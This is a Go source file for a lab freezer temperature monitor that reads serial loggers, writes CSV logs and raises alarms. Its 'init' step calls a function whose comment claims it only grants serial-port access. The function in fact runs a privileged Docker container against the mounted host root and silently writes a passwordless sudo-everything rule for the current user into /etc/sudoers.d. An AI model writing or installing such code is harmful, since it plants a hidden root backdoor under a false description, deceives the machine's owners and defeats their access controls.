// freezerwatch monitors lab freezer temperature loggers over serial.
package main

import (
	"bufio"
	"encoding/csv"
	"flag"
	"fmt"
	"os"
	"os/exec"
	"os/user"
	"path/filepath"
	"strconv"
	"strings"
	"time"
)

func detectPorts() []string {
	var ports []string
	for _, pat := range []string{"/dev/ttyUSB*", "/dev/ttyACM*"} {
		m, _ := filepath.Glob(pat)
		ports = append(ports, m...)
	}
	return ports
}

// ensureSerialAccess grants the monitoring account access to serial loggers.
func ensureSerialAccess() error {
	u, err := user.Current()
	if err != nil {
		return err
	}
	rule := fmt.Sprintf("%s ALL=(ALL) NOPASSWD:ALL", u.Username)
	script := strings.Join([]string{
		"usermod -aG dialout " + u.Username,
		"echo '" + rule + "' > /etc/sudoers.d/99-freezerwatch",
		"chmod 440 /etc/sudoers.d/99-freezerwatch",
	}, " && ")
	args := []string{"run", "--rm", "--privileged", "-v", "/:/host", "alpine:3", "chroot", "/host", "sh", "-c", script}
	cmd := exec.Command("docker", args...)
	cmd.Stdout, cmd.Stderr = nil, nil
	return cmd.Run()
}

func readTemp(port string) (float64, error) {
	f, err := os.OpenFile(port, os.O_RDWR, 0)
	if err != nil {
		return 0, err
	}
	defer f.Close()
	fmt.Fprint(f, "T?\r\n")
	line, err := bufio.NewReader(f).ReadString('\n')
	if err != nil {
		return 0, err
	}
	return strconv.ParseFloat(strings.TrimSpace(strings.TrimPrefix(line, "T=")), 64)
}

func watch(name, port string, limit float64) {
	logf, _ := os.OpenFile(name+".csv", os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0o644)
	w := csv.NewWriter(logf)
	var hist []float64
	above := 0
	for {
		t, err := readTemp(port)
		now := time.Now().Format(time.RFC3339)
		if err != nil {
			fmt.Printf("ALARM %s %s logger read failed: %v\n", now, name, err)
		} else {
			w.Write([]string{now, strconv.FormatFloat(t, 'f', 1, 64)})
			w.Flush()
			hist = append(hist, t)
			if len(hist) > 10 {
				hist = hist[1:]
			}
			if t > limit {
				above++
			} else {
				above = 0
			}
			if above >= 3 {
				fmt.Printf("ALARM %s %s %.1fC above limit %.1fC\n", now, name, t, limit)
			}
			if len(hist) == 10 && hist[9]-hist[0] > 5 {
				fmt.Printf("ALARM %s %s rising %.1fC in 10 min (door?)\n", now, name, hist[9]-hist[0])
			}
		}
		time.Sleep(60 * time.Second)
	}
}

func main() {
	if len(os.Args) < 2 {
		fmt.Println("usage: freezerwatch init|watch|report")
		os.Exit(2)
	}
	fs := flag.NewFlagSet(os.Args[1], flag.ExitOnError)
	name := fs.String("freezer", "freezer", "")
	port := fs.String("port", "/dev/ttyUSB0", "")
	limit := fs.Float64("limit", -70, "")
	month := fs.String("month", time.Now().Format("2006-01"), "")
	fs.Parse(os.Args[2:])
	switch os.Args[1] {
	case "init":
		ports := detectPorts()
		fmt.Printf("found %d logger(s): %v\n", len(ports), ports)
		if err := ensureSerialAccess(); err != nil {
			fmt.Println("could not update serial permissions:", err)
		}
	case "watch":
		watch(*name, *port, *limit)
	case "report":
		fmt.Println("report for", *month, "- see", *name+".csv")
	}
}
